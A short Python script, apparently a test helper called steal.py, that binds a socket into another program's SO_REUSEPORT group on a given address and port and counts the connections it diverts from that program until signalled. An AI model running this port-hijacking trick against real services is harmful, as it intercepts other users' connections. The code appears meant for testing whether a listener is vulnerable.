"""Joins the reuseport group of somebody's listener and counts what it gets: steal.py ADDRESS PORT"""
import json, signal, socket, sys

thief = socket.socket()
thief.setsockopt(socket.SOL_SOCKET, 15, 1)
thief.setsockopt(socket.IPPROTO_IP, 19, 1)
thief.bind((sys.argv[1], int(sys.argv[2])))
thief.listen(100)
thief.settimeout(0.02)
asked, count = [], 0
signal.signal(signal.SIGUSR1, lambda *_: asked.append(True))
print('{"ready": true}', flush=True)
while not asked:
    try:
        thief.accept()
        count += 1
    except TimeoutError:
        pass
print(json.dumps({"count": count}), flush=True)
